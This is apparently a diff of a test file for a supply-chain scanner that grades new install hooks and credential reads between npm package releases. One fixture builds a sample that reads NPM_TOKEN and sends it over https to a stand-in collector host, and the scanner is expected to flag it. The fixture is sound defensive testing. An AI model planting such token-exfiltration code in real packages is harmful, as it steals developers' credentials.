@@ -106,10 +106,12 @@ describe('content analysis', () => {
       assert.equal(severityOf(fs, 'content-network'), 'high');
     });
 
-    it('a changed command that runs only build tools is medium, and a new binding.gyp is a new hook', () => {
+    it('a switch between native build tools of a package that had native code is low; a new binding.gyp is a new hook', () => {
       const a = pkg('5.0.0', { 'package.json': { scripts: { install: 'node-pre-gyp install --fallback-to-build' } }, 'index.js': LIB_V1 });
       const b = pkg('6.0.0', { 'package.json': { scripts: { install: 'node-gyp-build' } }, 'index.js': LIB_V1 });
-      assert.equal(severityOf(run({ current: b, previous: a }), 'content-install-hook'), 'medium');
+      const tools = find(run({ current: b, previous: a }), 'content-install-hook')!;
+      assert.equal(tools.severity, 'low');
+      assert.match(tools.message, /runs only node-gyp-build \(loads or builds the native addon\), no code of the package/);
       const gyp = pkg('1.1.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1, 'binding.gyp': "{ 'targets': [] }" });
       const f = find(run({ current: gyp, previous: v1 }), 'content-install-hook')!;
       assert.equal(f.severity, 'high');
@@ -251,7 +253,7 @@ describe('content analysis', () => {
       const c = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.NPM_TOKEN;\nrequire("https").request({ hostname: "stats.collector.example" }).end(t);\n' });
       const g = find(run({ current: c, previous: a }), 'content-credentials')!;
       assert.equal(g.severity, 'high');
-      assert.match(g.message, /in a file that newly talks to the network/);
+      assert.match(g.message, /sends it out \(https\)/);
     });
     it('is quiet when the previous release read the same variable', () => {
       const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN;\n' });
